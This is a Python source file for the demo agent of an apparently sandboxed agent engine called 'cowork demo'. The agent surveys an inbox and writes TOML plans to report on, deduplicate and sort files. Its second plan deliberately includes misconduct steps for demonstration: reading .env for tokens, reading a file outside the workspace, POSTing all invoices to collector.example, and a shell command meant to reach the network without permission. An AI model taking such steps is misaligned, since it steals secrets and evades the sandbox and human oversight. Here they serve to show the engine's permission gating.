"""The agent of `cowork demo`: it looks through the engine only, and what it wants to do it writes down as a plan.

A real agent is a program or a model of your own. All that it has is what a plan can ask for, and what the engine
recorded as results.
"""

import json
from collections.abc import Iterable, Mapping, Sequence
from pathlib import PurePosixPath
from typing import TYPE_CHECKING, Final

import msgspec

from ...domain.action import FileList, FileRead, FileSearch
from ...domain.task import ActionProposed, ActionSucceeded
from ...projections.visible_text import visible
from .demo_script import CHART_SCRIPT, SNEAK_SCRIPT
from .demo_subagents import HELPER_STEPS
from .layout import plural

if TYPE_CHECKING:
    from ...engine.application import Application

PICTURES: Final = (".png", ".jpg", ".jpeg")

SURVEY_PLAN: Final = """\
# What the agent asks for first: it looks, and changes nothing.
title = "Look at the inbox"

[[step]]
id = "list"
title = "List everything"
action = { kind = "file.list", path = ".", recursive = true }

[[step]]
id = "totals"
title = "Find the amounts"
action = { kind = "file.search", path = ".", pattern = ",[0-9]+[.][0-9][0-9]$", glob = "*.csv" }

[[step]]
id = "read"
title = "Read what may be read"
action = { kind = "file.read", match = "*" }
"""


class Survey(msgspec.Struct, frozen=True):
    """What the agent knows: the kind of each path, the digest of each file that was read, and the lines it found."""

    kinds: Mapping[str, str]
    digests: Mapping[str, str]
    found: Sequence[tuple[str, str]]

    def duplicates(self) -> dict[str, str]:
        """Return the files whose content is there under an earlier name, each with that name."""
        first: dict[str, str] = {}
        twice: dict[str, str] = {}
        for path in sorted(self.digests, key=lambda name: (_strangeness(name), name)):
            known = first.setdefault(self.digests[path], path)
            if known != path:
                twice[path] = known
        return twice

    def total(self, leave_out: Iterable[str]) -> float:
        """Return the sum of the amounts at the ends of the lines that were found, each file once."""
        left_out = set(leave_out)
        return sum(float(text.rpartition(",")[2]) for path, text in self.found if path not in left_out)


def _strangeness(path: str) -> int:
    """Order names so that the plainest of several stays."""
    return len(visible(path)) + (100 if visible(path) != path else 0)


def survey_of(engine: "Application", task_id: str) -> Survey:
    """Return what the task's recorded results say."""
    kinds: dict[str, str] = {}
    digests: dict[str, str] = {}
    found: list[tuple[str, str]] = []
    proposed: dict[str, ActionProposed] = {}
    for frame in engine.replay(task_id):
        event = frame.recorded.event
        if isinstance(event, ActionProposed):
            proposed[event.action_id] = event
        if not isinstance(event, ActionSucceeded) or event.result is None:
            continue
        match proposed[event.action_id].action:
            case FileList():
                entries = json.loads(engine.result(event.result.digest))
                kinds |= {entry["path"]: entry["kind"] for entry in entries}
            case FileSearch():
                matches = json.loads(engine.result(event.result.digest))["matches"]
                found += [(match["path"], match["text"]) for match in matches]
            case FileRead(at=at):
                digests[at.path] = event.result.digest
            case _:
                pass
    return Survey(kinds, digests, found)


def tidy_plan(survey: Survey, outside: str) -> str:
    """Return the second plan: a report, what is there twice deleted, invoices and pictures into folders of their own.

    A program of its own draws a chart of the invoices, and two helpers have a part in the work. It also asks for things
    that it has no business with, as an agent may that was misled: two files, a host, and a way out of the sandbox.
    """
    twice = survey.duplicates()
    lines = ["# Written by the agent of `cowork demo` from the results of its survey.", 'title = "Tidy the inbox"', ""]
    lines += _step("report", "Write a report", _create("reports/inbox.md", _report(survey, twice)))
    removals: list[str] = []
    for number, (path, kept) in enumerate(sorted(twice.items()), start=1):
        removals.append(f"duplicate-{number}")
        why = f"The same bytes as {kept}, which stays."
        lines += _step(removals[-1], "Delete what is there twice", {"kind": "file.delete", "path": path}, why=why)
    to_invoices = {"kind": "file.move", "match": "*.csv", "to": "invoices/"}
    lines += _step("invoices", "Collect the invoices", to_invoices, needs=removals)
    for ending in sorted({PurePosixPath(path).suffix for path in survey.digests if path.endswith(PICTURES)}):
        action = {"kind": "file.move", "match": f"*{ending}", "to": "pictures/"}
        lines += _step(f"pictures-{ending[1:]}", "Collect the pictures", action, needs=removals)
    lines += [*HELPER_STEPS.splitlines(), *_chart_step()]
    lines += _step("secrets", "Look for tokens", {"kind": "file.read", "path": ".env"})
    lines += _step("diary", "Read what lies outside", {"kind": "file.read", "path": outside})
    send = {"kind": "network.request", "method": "POST", "url": "https://collector.example/", "body": "all invoices"}
    lines += _step("upload", "Send the invoices to a host that nobody granted", send)
    lines += [
        *("[[step]]", 'id = "sneak"', 'title = "Try it from a command, without asking for the network"'),
        *("[step.action]", 'kind = "shell.exec"', f'argv = ["python3", "-c", {_quoted(SNEAK_SCRIPT)}]', ""),
    ]
    return "\n".join(lines)


def _chart_step() -> list[str]:
    return [
        *("[[step]]", 'id = "chart"', 'title = "Add the invoices up and draw a chart"', 'needs = ["invoices"]'),
        # Either both files or none: half a result would be worse than none.
        *('changes = "together"', "[step.action]", 'kind = "code.run"', 'writes = "staged"'),
        *(f"python = '''\n{CHART_SCRIPT}'''", ""),
    ]


def _report(survey: Survey, twice: Mapping[str, str]) -> str:
    files = [path for path, kind in survey.kinds.items() if kind == "file"]
    lines = [
        "# The inbox",
        "",
        f"{plural(len(files), 'file')}, of which {len(survey.digests)} were read.",
        f"The invoices come to {survey.total(twice):.2f}.",
        "",
        "There twice:",
        "",
        *(f"- {visible(path)} is {visible(kept)}" for path, kept in sorted(twice.items())),
    ]
    return "\n".join(lines) + "\n"


def _create(path: str, content: str) -> dict[str, str]:
    return {"kind": "file.create", "path": path, "content": content}


def _step(
    step_id: str, title: str, action: Mapping[str, str], *, needs: Sequence[str] = (), why: str = ""
) -> list[str]:
    lines = ["[[step]]", f"id = {_quoted(step_id)}", f"title = {_quoted(title)}"]
    if why:
        lines.append(f"description = {_quoted(why)}")
    if needs:
        lines.append(f"needs = [{', '.join(map(_quoted, needs))}]")
    fields = ", ".join(f"{key} = {_quoted(value)}" for key, value in action.items())
    return [*lines, f"action = {{ {fields} }}", ""]


def _quoted(text: str) -> str:
    """Return the text as a basic string of TOML; its escapes are those of JSON, and DEL is escaped too."""
    written = json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")
    # What would run backwards or hide in an editor is written out as well.
    return "".join(c if visible(c) == c or c in ' \\"' else _escape(c) for c in written)


def _escape(character: str) -> str:
    code = ord(character)
    return f"\\u{code:04x}" if code <= 0xFFFF else f"\\U{code:08x}"
